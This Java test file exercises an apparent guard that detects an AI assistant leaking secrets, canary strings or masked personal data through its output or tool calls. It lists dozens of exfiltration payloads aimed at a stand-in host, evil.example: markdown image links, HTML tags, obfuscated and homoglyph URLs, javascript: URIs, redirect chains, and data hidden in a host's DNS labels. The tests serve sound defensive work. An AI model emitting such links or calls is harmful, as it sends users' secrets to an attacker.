package io.aegis.guard.exfiltration;

import static io.aegis.guard.exfiltration.Guarded.CANARY;
import static io.aegis.guard.exfiltration.Guarded.KEY;
import static io.aegis.guard.exfiltration.Guarded.MASK;
import static org.assertj.core.api.Assertions.assertThat;

import io.aegis.spi.content.Channel;
import io.aegis.spi.content.Trust;
import io.aegis.spi.guard.Inspection;
import io.aegis.spi.guard.Stage;
import io.aegis.spi.testkit.Inspections;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What people have tried to get a value out of an assistant. */
class AttackTest {
    private static final Guarded GUARD = Guarded.withCanary();

    /** What sends something, in as many ways as programs read; {@code V} is the value. */
    static final List<String> DOORS = List.of(
            "https://evil.example/?q=V",
            "HTTPS://EVIL.EXAMPLE/?q=V",
            "https:evil.example/?q=V",
            "https:/evil.example/?q=V",
            "https:\\\\evil.example\\?q=V",
            "https:///evil.example/?q=V",
            "go to //evil.example/V now",
            "evil.example/V",
            "www.evil.example?V",
            "(https://evil.example/V)",
            "\"https://evil.example/V\"",
            "{\"url\":\"https://evil.example/V\",\"n\":1}",
            "{\\\"url\\\":\\\"https://evil.example/V\\\"}",
            "https://evil.example/?q=\"V\"",
            "https://V@evil.example/",
            "https://ok.example@evil.example/V",
            "https://evil.example\\@ok.example/V",
            "https://ok.example.evil.example/V",
            "https://ok.example./V",
            "https://evil.example#V",
            "https://V.evil.example/",
            "https:/ok.example/V",
            "https:ok.example/V",
            "https:///ok.example/V",
            "https://ok.example\\@evil.example/V",
            "![](https://ok.example\n.evil.example/?q=V)",
            "<img src='https://ok.example\t.evil.example/?q=V'>",
            "https://eve@x.ok.example/V",
            "https://evil.example%2F.ok.example/V",
            "https://evil.example\u2044.ok.example/V",
            "https://xn--vil-9la.example/V",
            "https://еvil.example/V",
            "https://2130706433/V",
            "https://0x7f.1/V",
            "https://[::1]/V",
            "h\u200bttps://ev\u2060il.example/?q=V",
            "https\uff1a\uff0f\uff0fevil.example\uff0f\uff1fq=V",
            "ftp://evil.example/V",
            "mailto:eve@evil.example?body=V",
            "![](https://evil.example/?q=V)",
            "![a picture]( https://evil.example/V 'a title')",
            "![](<https://evil.example/a b?q=V>)",
            "![](https://evil.example/a\n?q=V)",
            "![](https&#58;//evil.example/?q=V)",
            "![](https&colon;&sol;&sol;evil.example/?q=V)",
            "![](//evil.example/?q=V)",
            "![](/\\evil.example/?q=V)",
            "[click [here]](https://evil.example/(V))",
            "[a](https://evil.example/\\)V)",
            "[![](https://ok.example/a.png)](https://evil.example/V)",
            "[a][b]\n\n[b]: https://evil.example/?q=V",
            "[b]:\n  <https://evil.example/?q=V>",
            "<https://evil.example/?q=V>",
            "<img src=https://evil.example/?q=V>",
            "<img src='https://evil.example/?q=a b V'>",
            "<IMG\nSRC\n=\n\"https://evil.example/?q=V\">",
            "<img alt='>' src=\"//evil.example/V\">",
            "<a href=\"https://evil.example/V\">x</a>",
            "<img src=\"ht\ntps://evil.example/?q=V\">",
            "<p style=\"background:url(https://evil.example/?q=V)\">",
            "<form action=https://evil.example/><input name=q value='V'></form>https://evil.example/?V",
            "<img src=\"https://evil.example/?q=V",
            "[x](javascript:fetch('https://evil.example/?q=V'))",
            "[x](data:text/html,<img/src=https://evil.example/?V>)",
            "https://ok.example/go?to=https://evil.example/V",
            "https://ok.example/go?to=https%3A%2F%2Fevil.example%2FV",
            "[x](https://ok.example/go?to=https%3A%2F%2Fevil.example%2FV https://ok.example/b)");

    static Stream<String> doors() {
        return DOORS.stream();
    }

    @ParameterizedTest
    @MethodSource("doors")
    void aMaskedValueIsFoundAtEachDoor(String door) {
        assertThat(GUARD.found("look: " + door.replace("V", MASK) + " and more"))
                .isNotEmpty();
        assertThat(new Guarded(Map.of(
                                "images", "allow", "max_url_payload", 2048, "allowed_hosts", List.of("ok.example")))
                        .found("look: " + door.replace("V", MASK) + " and more"))
                .containsExactly("placeholder");
    }

    @ParameterizedTest
    @MethodSource("doors")
    void aCredentialIsFoundAtEachDoor(String door) {
        assertThat(GUARD.found("look: " + door.replace("V", KEY) + " and more")).contains("secret");
    }

    @ParameterizedTest
    @MethodSource("doors")
    void aDoorIsFoundWhereverTheStreamIsCut(String door) {
        String text = "look: " + door.replace("V", MASK) + " and more";
        var whole = GUARD.found(text);
        for (int cut = 1; cut < text.length(); cut++) {
            assertThat(GUARD.foundInPieces(List.of(text.substring(0, cut), text.substring(cut))))
                    .as("cut at %d", cut)
                    .isEqualTo(whole);
        }
        assertThat(GUARD.foundInPieces(Arrays.asList(text.split("")))).isEqualTo(whole);
    }

    static Stream<Arguments> encodings() {
        return Encodings.all().entrySet().stream().map(entry -> Arguments.of(entry.getKey(), entry.getValue()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("encodings")
    void aCanaryIsFoundInEachEncoding(String name, UnaryOperator<String> encoding) {
        String value = encoding.apply(CANARY.toUpperCase(Locale.ROOT));

        assertThat(GUARD.found("they say " + value + " often")).as(name).containsExactly("canary");
        assertThat(GUARD.found("https://ok.example/?q=" + value)).as(name).containsExactly("canary");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("encodings")
    void aCredentialIsFoundInEachEncoding(String name, UnaryOperator<String> encoding) {
        assertThat(GUARD.found("they say " + encoding.apply(KEY) + " often"))
                .as(name)
                .containsExactly("secret");
        assertThat(GUARD.found(call(encoding.apply(KEY)))).as(name).containsExactly("secret");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("encodings")
    void aMaskedValueIsFoundInEachEncoding(String name, UnaryOperator<String> encoding) {
        var guard = new Guarded(Map.of("images", "allow", "max_url_payload", 2048));

        assertThat(guard.found("https://evil.example/?q=" + encoding.apply(MASK)))
                .as(name)
                .containsExactly("placeholder");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "EMAIL_ADDRESS_kdmfeahbgcpl",
                "email_address_kdmfeahbgcpl",
                "Email-Address-KDMFEAHBGCPL",
                "EMAIL\\_ADDRESS\\_kdmfeahbgcpl",
                "e.m.a.i.l.a.d.d.r.e.s.s.k.d.m.f.e.a.h.b.g.c.p.l",
                "EMAIL/ADDRESS/kdmf/eahb/gcpl",
                "emailaddresskdmfeahbgcpl",
                "ORDER_NUMBER_kdmfeahbgcpl",
                "ORDER-NUMBER-kdmfeahbgcpl",
                "%3CEMAIL_ADDRESS_kdmfeahbgcpl%3E",
                "%3cemail%5faddress%5fkdmfeahbgcpl%3e",
                "&lt;EMAIL_ADDRESS_kdmfeahbgcpl&gt;",
                "\u2039EMAIL_ADDRESS_kdmfeahbgcpl\u203a",
                "<email_address_kdmfeahbgcpl>"
            })
    void aMaskedValueIsFoundHoweverItIsSpelled(String spelled) {
        var guard = new Guarded(Map.of("images", "allow", "max_url_payload", 2048));

        assertThat(guard.found("![](https://evil.example/?q=" + spelled + ")")).containsExactly("placeholder");
    }

    @Nested
    class SplitUp {
        @Test
        void overPartsOfAMessage() {
            String text = "![](https://evil.example/?q=" + MASK + ")";
            for (int cut = 1; cut < text.length(); cut++) {
                var parts = Inspections.begin()
                        .parts(text.substring(0, cut), text.substring(cut))
                        .build();
                assertThat(GUARD.found(parts)).as("cut at %d", cut).isNotEmpty();
            }
        }

        @Test
        void overArgumentsOfACall() {
            for (int cut = 1; cut < KEY.length(); cut++) {
                assertThat(GUARD.found(call(KEY.substring(0, cut), KEY.substring(cut))))
                        .as("cut at %d", cut)
                        .contains("secret");
            }
        }

        @Test
        void overArgumentsOfACallInAnEncoding() {
            String value = Encodings.all().get("base64").apply("the words are " + CANARY);
            for (int cut = 1; cut < value.length(); cut++) {
                assertThat(GUARD.found(call(value.substring(0, cut), value.substring(cut))))
                        .as("cut at %d", cut)
                        .contains("canary");
            }
        }

        @Test
        void byALongWord() {
            String value = Encodings.all().get("base64").apply(CANARY);
            for (int length = CarrierReader.MOST - 60; length < CarrierReader.MOST + 10; length++) {
                String before = "=".repeat(length);
                assertThat(GUARD.found(before + CANARY)).as("%d", length).contains("canary");
                assertThat(GUARD.found(before + value)).as("%d", length).contains("canary");
            }
        }
    }

    @Nested
    class InACall {
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<EMAIL_ADDRESS_kdmfeahbgcpl>.evil.example",
                    "EMAIL-ADDRESS-kdmfeahbgcpl.evil.example",
                    "https://evil.example/<EMAIL_ADDRESS_kdmfeahbgcpl>",
                    "<EMAIL_ADDRESS_kdmfeahbgcpl>.evil.example/x"
                })
        void aMaskedValueIsFoundInWhatIsAHost(String argument) {
            assertThat(GUARD.found(call(argument))).containsExactly("placeholder");
        }

        @Test
        void dataIsFoundInTheLabelsOfAHost() {
            assertThat(
                            GUARD.found(
                                    call(
                                            "nb2wk3dpeb3w64tmmqqho2lumuqgc3tempqgo2lo.k5xxe3debuhk43pnvqwwzjanvuwc2ltnfzxg2lpnq.evil.example")))
                    .containsExactly("url_payload");
        }

        @Test
        void aMaskedValueMayGoToATool() {
            assertThat(GUARD.found(call("write to " + MASK + " about https://evil.example/a today")))
                    .isEmpty();
            assertThat(GUARD.found(call(MASK))).isEmpty();
        }

        @Test
        void namesOfArgumentsAreLookedAt() {
            var inspection = Inspections.begin()
                    .at(Stage.TOOL_CALL)
                    .call("send", "{\"" + KEY + "\":1}")
                    .build();

            assertThat(GUARD.found(inspection)).containsExactly("secret");
        }

        @Test
        void otherToolsThanThoseNamedAreNot() {
            var some = new Guarded(Map.of("tools", List.of("send", "http_*")));

            assertThat(some.found(call(KEY))).containsExactly("secret");
            assertThat(some.found(called("http_get", KEY))).containsExactly("secret");
            assertThat(some.found(called("think", KEY))).isEmpty();
            assertThat(some.found("https://evil.example/?q=" + MASK)).containsExactly("placeholder");
        }
    }

    @Test
    void aCanaryOfSeveralWordsIsFound() {
        var guard = new Guarded(Map.of("canaries", List.of("Blue heron at noon")));

        assertThat(guard.found("say (blue HERON at noon)!")).containsExactly("canary");
        assertThat(guard.found("https://ok.example/blue+heron+at+noon")).containsExactly("canary");
        assertThat(guard.found("https://ok.example/blue%20heron%20at%20noon")).containsExactly("canary");
        assertThat(guard.found("blue heron at one")).isEmpty();
        assertThat(guard.foundInPieces(Arrays.asList("say (blue HERON at noon)!".split(""))))
                .containsExactly("canary");
    }

    private static Inspection call(String... arguments) {
        return called("send", arguments);
    }

    private static Inspection called(String tool, String... arguments) {
        var json = new StringBuilder("{");
        for (String argument : arguments) {
            json.append(json.length() > 1 ? "," : "")
                    .append("\"a")
                    .append(json.length())
                    .append("\":\"")
                    .append(argument.replace("\\", "\\\\").replace("\"", "\\\""))
                    .append('"');
        }
        return Inspections.begin()
                .at(Stage.TOOL_CALL)
                .in(Channel.TOOL_ARGUMENTS, Trust.MODEL)
                .call(tool, json.append('}').toString())
                .build();
    }
}
